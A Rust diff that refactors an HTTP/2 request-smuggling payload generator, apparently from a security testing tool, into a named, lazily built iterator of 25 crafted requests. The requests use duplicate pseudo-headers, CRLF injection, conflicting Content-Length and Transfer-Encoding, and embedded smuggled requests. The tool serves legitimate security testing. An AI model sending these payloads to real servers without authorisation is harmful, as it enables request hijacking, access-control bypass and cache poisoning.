@@ -1,8 +1,53 @@
-use super::{format_cookies, format_custom_headers};
+use super::{PayloadIter, RequestParts};
+
+/// Number of H2 payloads.
+const H2_PAYLOAD_COUNT: usize = 25;
+
+/// Name of each H2 payload, by index.
+const H2_PAYLOAD_NAMES: [&str; H2_PAYLOAD_COUNT] = [
+    "dup-method",
+    "dup-path",
+    "dup-authority",
+    "dup-scheme",
+    "colon-prefixed-name",
+    "colon-in-name",
+    "cl-mismatch-smuggle",
+    "dual-cl-smuggle",
+    "lf-in-value",
+    "crlf-in-value",
+    "te-forbidden",
+    "connection-forbidden",
+    "keep-alive-forbidden",
+    "proxy-connection-forbidden",
+    "mixed-case-pseudo",
+    "uppercase-pseudo",
+    "header-before-pseudo",
+    "underscore-name",
+    "cl0-with-body",
+    "downgrade-smuggle",
+    "request-in-header",
+    "mixed-pseudo-headers",
+    "te-with-pseudo",
+    "pseudo-after-body",
+    "dual-cl-with-pseudo",
+];
 
 /// Generate H2 (HTTP/2 Protocol) smuggling attack payloads
 /// HTTP/2 desync attacks exploit discrepancies in how front-end and back-end servers handle HTTP/2 features
 /// Reference: https://portswigger.net/research/http2
+pub fn h2_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> PayloadIter {
+    let parts = RequestParts::new(path, host, method, custom_headers, cookies);
+    PayloadIter::new(H2_PAYLOAD_COUNT, move |i| build_h2_payload(&parts, i))
+        .named(|i, _| H2_PAYLOAD_NAMES[i].to_string())
+}
+
+/// Eagerly collected [`h2_payloads`]
 pub fn get_h2_payloads(
     path: &str,
     host: &str,
@@ -10,383 +55,392 @@ pub fn get_h2_payloads(
     custom_headers: &[String],
     cookies: &[String],
 ) -> Vec<String> {
-    let custom_header_str = format_custom_headers(custom_headers);
-    let cookie_str = format_cookies(cookies);
-
-    let mut payloads = Vec::with_capacity(30);
-
-    // === HTTP/2 Pseudo-Header Injection Attacks ===
-    // These attacks exploit how servers handle duplicate or malformed pseudo-headers
-
-    // Duplicate :method pseudo-header
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         :method: GET\r\n\
-         :method: POST\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // Duplicate :path pseudo-header
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         :path: {}\r\n\
-         :path: /admin\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str, path
-    ));
-
-    // Duplicate :authority pseudo-header (similar to Host header in HTTP/2)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         :authority: {}\r\n\
-         :authority: malicious.com\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str, host
-    ));
-
-    // Duplicate :scheme pseudo-header
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         :scheme: https\r\n\
-         :scheme: http\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // === Header Name with Colon Attacks ===
-    // HTTP/2 allows colons in header names (as pseudo-headers), but HTTP/1.1 doesn't
-
-    // Header name starting with colon (non-pseudo-header)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         :custom-header: value\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // Header name with colon in the middle
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         x-custom:header: value\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // === HTTP/2 Content-Length Conflicts ===
-    // HTTP/2 uses frame length, but some proxies still process Content-Length
-
-    // Content-Length mismatch with smuggled request
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Content-Length: 0\r\n\
-         \r\n\
-         GET /smuggled HTTP/1.1\r\n\
-         Host: {}\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str, host
-    ));
-
-    // Multiple Content-Length headers (forbidden in HTTP/2 but might be forwarded).
-    // The second (larger) Content-Length must equal the smuggled request's byte
-    // length so a back-end that honors it consumes exactly the smuggled request
-    // and leaves the socket clean. A hardcoded length only matched a 10-char host.
-    let h2_dual_cl_smuggled = format!("GET /smuggled HTTP/1.1\r\nHost: {}\r\n\r\n", host);
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Content-Length: 0\r\n\
-         Content-Length: {}\r\n\
-         \r\n\
-         {}",
+    h2_payloads(path, host, method, custom_headers, cookies)
+        .map(|p| p.request)
+        .collect()
+}
+
+fn build_h2_payload(parts: &RequestParts, index: usize) -> String {
+    let RequestParts {
         method,
         path,
         host,
-        custom_header_str,
-        cookie_str,
-        h2_dual_cl_smuggled.len(),
-        h2_dual_cl_smuggled
-    ));
-
-    // === Header Value with Newline Attacks ===
-    // HTTP/2 doesn't allow newlines in header values, but HTTP/1.1 might accept them
-
-    // Header value with embedded newline
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         X-Custom: value1\nX-Injected: injected\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // Header value with CRLF injection
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         X-Custom: value1\r\nX-Injected: injected\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // === HTTP/2 Transfer-Encoding (forbidden in HTTP/2) ===
-    // HTTP/2 forbids Transfer-Encoding, but proxies might forward it to HTTP/1.1 backends
-
-    // Transfer-Encoding in HTTP/2 context (should be rejected but might be smuggled)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Transfer-Encoding: chunked\r\n\
-         Content-Length: 6\r\n\
-         \r\n\
-         0\r\n\
-         \r\n\
-         G",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // === Connection-Specific Headers (forbidden in HTTP/2) ===
-    // HTTP/2 forbids connection-specific headers like Connection, Keep-Alive, etc.
-
-    // Connection header (forbidden in HTTP/2)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Connection: close\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // Keep-Alive header (forbidden in HTTP/2)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Keep-Alive: timeout=5\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // Proxy-Connection header (forbidden in HTTP/2)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Proxy-Connection: keep-alive\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // === Case Sensitivity Attacks ===
-    // HTTP/2 requires lowercase header names, HTTP/1.1 is case-insensitive
-
-    // Mixed-case pseudo-header (invalid in HTTP/2)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         :Method: POST\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // Uppercase pseudo-header (invalid in HTTP/2)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         :PATH: /admin\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // === Header Field Ordering Attacks ===
-    // HTTP/2 requires pseudo-headers before regular headers
-
-    // Regular header before pseudo-header (violates HTTP/2 spec)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         X-Custom: value\r\n\
-         :method: POST\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // === HTTP/2 Header Name Validation Bypass ===
-    // Test characters that are valid in HTTP/2 but not in HTTP/1.1
-
-    // Header name with underscore (more permissive in HTTP/2)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         x_custom_header: value\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // === Content-Length: 0 with Body ===
-    // HTTP/2 uses frame length, so Content-Length: 0 with body might be processed differently
-
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Content-Length: 0\r\n\
-         \r\n\
-         unexpected body content",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // === HTTP/2 Downgrade with Smuggled Request ===
-    // Attack that exploits HTTP/2 to HTTP/1.1 downgrade
-
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
-         Content-Length: 0\r\n\
-         Transfer-Encoding: chunked\r\n\
-         \r\n\
-         0\r\n\
-         \r\n\
-         GET /smuggled HTTP/1.1\r\n\
-         Host: {}\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str, host
-    ));
-
-    // === Request Splitting via Header Injection ===
-    // Inject full request in header value
-
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         X-Custom: value\r\n\
-         \r\n\
-         GET /smuggled HTTP/1.1\r\n\
-         Host: {}\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str, host
-    ));
-
-    // === Additional HTTP/2 Specific Attacks ===
-
-    // HTTP/2 with multiple pseudo-headers of different types
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         :method: GET\r\n\
-         :path: /admin\r\n\
-         :authority: malicious.com\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // Transfer-Encoding with pseudo-header (combining forbidden elements)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         :method: POST\r\n\
-         Transfer-Encoding: chunked\r\n\
-         Content-Length: 6\r\n\
-         \r\n\
-         0\r\n\
-         \r\n\
-         G",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // Pseudo-header after body (severe HTTP/2 violation)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Content-Length: 0\r\n\
-         \r\n\
-         :path: /injected",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // Multiple Content-Length with pseudo-header
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         :authority: {}\r\n\
-         Content-Length: 8\r\n\
-         Content-Length: 0\r\n\
-         \r\n\
-         smuggled",
-        method, path, host, custom_header_str, cookie_str, host
-    ));
-
-    payloads
+        headers: custom_header_str,
+        cookies: cookie_str,
+    } = parts;
+
+    match index {
+        // === HTTP/2 Pseudo-Header Injection Attacks ===
+        // These attacks exploit how servers handle duplicate or malformed pseudo-headers
+
+        // Duplicate :method pseudo-header
+        0 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             :method: GET\r\n\
+             :method: POST\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // Duplicate :path pseudo-header
+        1 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             :path: {}\r\n\
+             :path: /admin\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str, path
+        ),
+
+        // Duplicate :authority pseudo-header (similar to Host header in HTTP/2)
+        2 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             :authority: {}\r\n\
+             :authority: malicious.com\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str, host
+        ),
+
+        // Duplicate :scheme pseudo-header
+        3 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             :scheme: https\r\n\
+             :scheme: http\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // === Header Name with Colon Attacks ===
+        // HTTP/2 allows colons in header names (as pseudo-headers), but HTTP/1.1 doesn't
+
+        // Header name starting with colon (non-pseudo-header)
+        4 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             :custom-header: value\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // Header name with colon in the middle
+        5 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             x-custom:header: value\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // === HTTP/2 Content-Length Conflicts ===
+        // HTTP/2 uses frame length, but some proxies still process Content-Length
+
+        // Content-Length mismatch with smuggled request
+        6 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             Content-Length: 0\r\n\
+             \r\n\
+             GET /smuggled HTTP/1.1\r\n\
+             Host: {}\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str, host
+        ),
+
+        // Multiple Content-Length headers (forbidden in HTTP/2 but might be forwarded).
+        // The second (larger) Content-Length must equal the smuggled request's byte
+        // length so a back-end that honors it consumes exactly the smuggled request
+        // and leaves the socket clean. A hardcoded length only matched a 10-char host.
+        7 => {
+            let h2_dual_cl_smuggled = format!("GET /smuggled HTTP/1.1\r\nHost: {}\r\n\r\n", host);
+            format!(
+                "{} {} HTTP/1.1\r\n\
+                 Host: {}\r\n\
+                 {}\
+                 {}\
+                 Content-Length: 0\r\n\
+                 Content-Length: {}\r\n\
+                 \r\n\
+                 {}",
+                method,
+                path,
+                host,
+                custom_header_str,
+                cookie_str,
+                h2_dual_cl_smuggled.len(),
+                h2_dual_cl_smuggled
+            )
+        }
+
+        // === Header Value with Newline Attacks ===
+        // HTTP/2 doesn't allow newlines in header values, but HTTP/1.1 might accept them
+
+        // Header value with embedded newline
+        8 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             X-Custom: value1\nX-Injected: injected\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // Header value with CRLF injection
+        9 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             X-Custom: value1\r\nX-Injected: injected\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // === HTTP/2 Transfer-Encoding (forbidden in HTTP/2) ===
+        // HTTP/2 forbids Transfer-Encoding, but proxies might forward it to HTTP/1.1 backends
+
+        // Transfer-Encoding in HTTP/2 context (should be rejected but might be smuggled)
+        10 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             Transfer-Encoding: chunked\r\n\
+             Content-Length: 6\r\n\
+             \r\n\
+             0\r\n\
+             \r\n\
+             G",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // === Connection-Specific Headers (forbidden in HTTP/2) ===
+        // HTTP/2 forbids connection-specific headers like Connection, Keep-Alive, etc.
+
+        // Connection header (forbidden in HTTP/2)
+        11 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             Connection: close\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // Keep-Alive header (forbidden in HTTP/2)
+        12 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             Keep-Alive: timeout=5\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // Proxy-Connection header (forbidden in HTTP/2)
+        13 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             Proxy-Connection: keep-alive\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // === Case Sensitivity Attacks ===
+        // HTTP/2 requires lowercase header names, HTTP/1.1 is case-insensitive
+
+        // Mixed-case pseudo-header (invalid in HTTP/2)
+        14 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             :Method: POST\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // Uppercase pseudo-header (invalid in HTTP/2)
+        15 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             :PATH: /admin\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // === Header Field Ordering Attacks ===
+        // HTTP/2 requires pseudo-headers before regular headers
+
+        // Regular header before pseudo-header (violates HTTP/2 spec)
+        16 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             X-Custom: value\r\n\
+             :method: POST\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // === HTTP/2 Header Name Validation Bypass ===
+        // Test characters that are valid in HTTP/2 but not in HTTP/1.1
+
+        // Header name with underscore (more permissive in HTTP/2)
+        17 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             x_custom_header: value\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // === Content-Length: 0 with Body ===
+        // HTTP/2 uses frame length, so Content-Length: 0 with body might be processed differently
+        18 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             Content-Length: 0\r\n\
+             \r\n\
+             unexpected body content",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // === HTTP/2 Downgrade with Smuggled Request ===
+        // Attack that exploits HTTP/2 to HTTP/1.1 downgrade
+        19 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
+             Content-Length: 0\r\n\
+             Transfer-Encoding: chunked\r\n\
+             \r\n\
+             0\r\n\
+             \r\n\
+             GET /smuggled HTTP/1.1\r\n\
+             Host: {}\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str, host
+        ),
+
+        // === Request Splitting via Header Injection ===
+        // Inject full request in header value
+        20 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             X-Custom: value\r\n\
+             \r\n\
+             GET /smuggled HTTP/1.1\r\n\
+             Host: {}\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str, host
+        ),
+
+        // === Additional HTTP/2 Specific Attacks ===
+
+        // HTTP/2 with multiple pseudo-headers of different types
+        21 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             :method: GET\r\n\
+             :path: /admin\r\n\
+             :authority: malicious.com\r\n\
+             Content-Length: 0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // Transfer-Encoding with pseudo-header (combining forbidden elements)
+        22 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             :method: POST\r\n\
+             Transfer-Encoding: chunked\r\n\
+             Content-Length: 6\r\n\
+             \r\n\
+             0\r\n\
+             \r\n\
+             G",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // Pseudo-header after body (severe HTTP/2 violation)
+        23 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             Content-Length: 0\r\n\
+             \r\n\
+             :path: /injected",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // Multiple Content-Length with pseudo-header
+        24 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             :authority: {}\r\n\
+             Content-Length: 8\r\n\
+             Content-Length: 0\r\n\
+             \r\n\
+             smuggled",
+            method, path, host, custom_header_str, cookie_str, host
+        ),
+        _ => unreachable!("h2 payload index {} out of range", index),
+    }
 }